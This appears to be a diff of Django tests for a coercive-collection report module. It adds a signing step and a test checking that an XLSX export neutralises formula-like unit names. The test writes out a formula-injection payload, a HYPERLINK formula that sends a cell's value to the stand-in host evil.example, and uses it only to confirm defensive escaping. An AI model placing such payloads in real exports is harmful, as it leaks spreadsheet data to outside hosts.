@@ -15,7 +15,7 @@ from coactiva import selectors
 from coactiva.forms import bimestre_actual
 from coactiva.models import JuicioCoactivo
 from core import roles
-from tests.coactiva.test_levantamiento import pagar_todo
+from tests.coactiva.test_levantamiento import firmar_todo, pagar_todo
 from tests.factories import JuicioCoactivoFactory, staff
 
 pytestmark = pytest.mark.django_db
@@ -28,6 +28,7 @@ def test_report_counts_processes_money_and_measures_of_the_period(
     JuicioCoactivoFactory(con_medidas=True, n_titulos=2)
     with django_capture_on_commit_callbacks(execute=True):
         pago = pagar_todo(pagado.titulos.get())
+    firmar_todo(pagado)  # the measures are lifted when the Director signs the oficios
     anio, bimestre = bimestre_actual()
     client.force_login(staff(roles.JEFE_UNIDAD, "17-coactiva"))
     respuesta = client.get(f"/coactiva/reportes/?anio={anio}&bimestre={bimestre}&formato=csv")
@@ -55,6 +56,23 @@ def test_report_counts_processes_money_and_measures_of_the_period(
     assert "Elija un bimestre de la lista." in malo.content.decode()
     client.force_login(staff(roles.ANALISTA_CARTERA, "17-cartera"))
     assert client.get("/coactiva/reportes/").status_code == 403
+
+
+def test_the_xlsx_download_gives_formula_like_names_as_text(client: Client) -> None:
+    """Through the real download: a name typed as a formula (here the unit's, which
+    staff edit in the admin) arrives in the spreadsheet as text, not as a live
+    HYPERLINK. Without the neutralisation openpyxl writes it as a formula."""
+    from core.models import Unidad
+
+    carnada = '=HYPERLINK("http://evil.example/?"&B2,"Ver detalle")'
+    Unidad.objects.filter(codigo="17-coactiva").update(nombre=carnada)
+    anio, bimestre = bimestre_actual()
+    client.force_login(staff(roles.JEFE_UNIDAD, "17-coactiva"))
+    xlsx = client.get(f"/coactiva/reportes/?anio={anio}&bimestre={bimestre}&formato=xlsx")
+    assert xlsx.status_code == 200
+    celda = load_workbook(io.BytesIO(xlsx.content)).active["A2"]
+    assert celda.value == carnada
+    assert celda.data_type == "s" and celda.quotePrefix
 
 
 def test_employer_selectors_use_a_fixed_number_of_queries(django_assert_max_num_queries) -> None:
